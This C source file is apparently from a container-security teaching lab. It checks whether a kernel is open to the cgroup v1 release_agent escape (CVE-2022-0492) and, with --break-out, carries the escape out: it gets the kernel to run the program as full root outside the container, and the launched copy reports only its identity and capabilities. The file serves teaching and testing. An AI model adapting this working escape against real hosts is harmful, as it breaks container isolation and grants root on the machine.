/* SPDX-License-Identifier: MIT */
/*
 * release.c - break-out: have the kernel run a program when a group is empty
 *
 * Usage:  release              what the kernel answers, changing nothing
 *         release --break-out  do it; as root, in the lab machine only
 *
 * In a v1 hierarchy the file release_agent of the root group names a program.
 * When the last process leaves a group with notify_on_release, the kernel runs
 * it: as root, with all capabilities, outside of every container.  Until
 * CVE-2022-0492 was mended it asked only who owns the file, user 0; a
 * container's root without user namespace is user 0.
 *
 *	hierarchy "kit"          v1, without controllers; made for this
 *	|- release_agent         this program, by its path
 *	`- pid-4711              a child enters and ends: empty
 *
 * The kernel starts us with the group's path as only argument, and with
 * nothing of ours: we tell by a FIFO who we are then.
 *
 * Idea:   v2 has no such file: who wants to know reads cgroup.events himself
 * Calls:  mount(2), write(2) to release_agent
 * Needs:  root and a kernel with v1: the lab machine
 * Read:   cgroups(7), "Cgroups v1 release notification"
 * Test:   the chapter's session; tests/attacks/cgroup-escape.c tries it, too
 */
#include <fcntl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "child.h"
#include "err.h"
#include "file.h"
#include "userns.h"

enum { WAIT_MS = 5000 };

static const char point[] = "/mnt";
static const char inner[] = "/tmp"; /* where the container's root mounts it */
static const char options[] = "none,name=kit";

static void say(const char *who, const char *what, int r)
{
	printf("  %-34s %-22s %s\n", who, what, r < 0 ? strerror(-r) : "may");
	(void)fflush(stdout);
}

/* ---- what the kernel starts ------------------------------------------------ */

/* @group is "/pid-4711"; nothing else is known here. */
static int be_agent(const char *group)
{
	char status[4096];
	char fifo[64];
	const char *caps;
	int fd;

	snprintf(fifo, sizeof(fifo), "/tmp/kit-release%.16s",
		 strrchr(group, '-'));
	fd = open(fifo, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0 || file_read_at(AT_FDCWD, "/proc/self/status", status,
				   sizeof(status)) < 0)
		return KIT_FAILED;
	caps = strstr(status, "CapEff:");
	dprintf(fd, "user %d, parent %d, %.*s", (int)geteuid(), (int)getppid(),
		(int)strcspn(caps, "\n"), caps);
	return KIT_OK;
}

/* ---- the break-out ---------------------------------------------------------- */

/* The last process of a group leaves it. */
static void fill_and_empty(const char *group)
{
	char path[128];
	pid_t child = fork();

	if (child == 0) {
		snprintf(path, sizeof(path), "%s/cgroup.procs", group);
		_exit(file_write_at(AT_FDCWD, path, "0") < 0);
	}
	if (child < 0 || child_wait(child) != 0)
		die(0, "cannot enter %s", group);
}

static int set_up(const char *group)
{
	char self[4096] = "";
	char path[128];
	int r = sysret(mount("kit", point, "cgroup", 0, options));

	if (r < 0)
		die(r, "cannot mount a v1 hierarchy");
	if (readlink("/proc/self/exe", self, sizeof(self) - 1) < 0)
		die(-errno, "cannot find myself");
	snprintf(path, sizeof(path), "%s/release_agent", point);
	r = file_write_at(AT_FDCWD, path, self);
	if (r == 0 && mkdir(group, 0755) < 0 && errno != EEXIST)
		r = -errno;
	if (r == 0) {
		snprintf(path, sizeof(path), "%s/notify_on_release", group);
		r = file_write_at(AT_FDCWD, path, "1");
	}
	return r;
}

static int break_out(void)
{
	struct pollfd told = { .events = POLLIN };
	char group[64];
	char fifo[64];
	char text[256];
	ssize_t n;
	int r;

	snprintf(group, sizeof(group), "%s/pid-%d", point, (int)getpid());
	snprintf(fifo, sizeof(fifo), "/tmp/kit-release-%d", (int)getpid());
	if (mkfifo(fifo, 0600) < 0)
		die(-errno, "cannot make %s", fifo);
	told.fd = open(fifo, O_RDWR | O_CLOEXEC);
	(void)unshare(CLONE_NEWNS);
	(void)mount(NULL, "/", NULL, MS_PRIVATE | MS_REC, NULL);
	r = set_up(group);
	if (r == 0) {
		printf("I am process %d.  The group gets empty...\n",
		       (int)getpid());
		(void)fflush(stdout);
		fill_and_empty(group);
		r = poll(&told, 1, WAIT_MS) == 1 ? 0 : -ETIME;
	}
	n = r == 0 ? read(told.fd, text, sizeof(text)) : 0;
	if (n > 0)
		printf("The kernel has started this: %.*s\n", (int)n, text);
	(void)unlink(fifo);
	(void)rmdir(group);
	(void)umount(point);
	if (r < 0)
		die(r, "the kernel has started nothing");
	return KIT_OK;
}

/* ---- what the kernel answers ------------------------------------------------ */

/* The hierarchy has to exist: nobody but the machine's root can make one. */
static int try_agent(const char *who)
{
	int r = sysret(mount("kit", inner, "cgroup", 0, options));
	int fd;

	say(who, "mount a v1 hierarchy", r);
	if (r < 0)
		return r;
	fd = open("/tmp/release_agent", O_WRONLY | O_CLOEXEC);
	if (fd < 0) {
		say(who, "open release_agent", -errno);
		return -EACCES;
	}
	r = sysret((int)write(fd, "/none", 5));
	say(who, "write release_agent", r);
	(void)close(fd);
	return r < 0 ? r : 0;
}

/* Root in a user namespace: user 0 is mapped to himself. */
static int as_container_root(void)
{
	unsigned uid = geteuid();
	unsigned gid = getegid();
	char map[32];

	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
		die_hint(-errno, "try: isolab doctor",
			 "cannot make a user namespace");
	(void)mount(NULL, "/", NULL, MS_PRIVATE | MS_REC, NULL);
	snprintf(map, sizeof(map), "0 %u 1", uid);
	(void)file_write_at(AT_FDCWD, "/proc/self/uid_map", map);
	(void)file_write_at(AT_FDCWD, "/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %u 1", gid);
	(void)file_write_at(AT_FDCWD, "/proc/self/gid_map", map);
	return try_agent("root of a user namespace");
}

/* As in a container of old: user 0, and not all capabilities. */
static int without_capability(void)
{
	if (prctl(PR_CAPBSET_DROP, 21 /* CAP_SYS_ADMIN */, 0, 0, 0) < 0)
		die(-errno, "cannot drop CAP_SYS_ADMIN");
	execl("/proc/self/exe", "release", "--write", (char *)NULL);
	die(-errno, "cannot execute myself");
}

static int in_child(int (*fn)(void))
{
	pid_t child = fork();

	if (child == 0) {
		(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
		_exit(fn() < 0 ? 1 : 0);
	}
	return child < 0 ? -errno : child_wait(child);
}

static int ask(void)
{
	bool root = geteuid() == 0;
	int refused = 0;

	/* Keeps the hierarchy for those who may only mount what is there. */
	if (root) {
		(void)unshare(CLONE_NEWNS);
		(void)mount(NULL, "/", NULL, MS_PRIVATE | MS_REC, NULL);
		if (mount("kit", point, "cgroup", 0, options) < 0)
			die(-errno, "cannot mount a v1 hierarchy");
		refused += in_child(without_capability) == 1;
	}
	refused += in_child(as_container_root) == 1;
	say("anybody", "find it in v2",
	    access("/sys/fs/cgroup/release_agent", F_OK) < 0 ? -errno : 0);
	if (root)
		(void)umount(point);
	if (refused != 1 + root) {
		printf("This kernel would let a container break out.\n");
		return KIT_FAILED;
	}
	printf("This kernel asks for CAP_SYS_ADMIN in the first user "
	       "namespace.\n");
	return KIT_OK;
}

int main(int argc, char *argv[])
{
	if (argc == 2 && strncmp(argv[1], "/pid-", 5) == 0)
		return be_agent(argv[1]);
	if (argc == 2 && strcmp(argv[1], "--write") == 0) {
		int r = file_write_at(AT_FDCWD, "/mnt/release_agent", "/none");

		say("root without CAP_SYS_ADMIN", "write release_agent", r);
		return r < 0 ? 1 : 0;
	}
	if (argc == 2 && strcmp(argv[1], "--break-out") == 0)
		return break_out();
	if (argc != 1) {
		fprintf(stderr, "usage: release [--break-out]\n");
		return KIT_USAGE;
	}
	return ask();
}
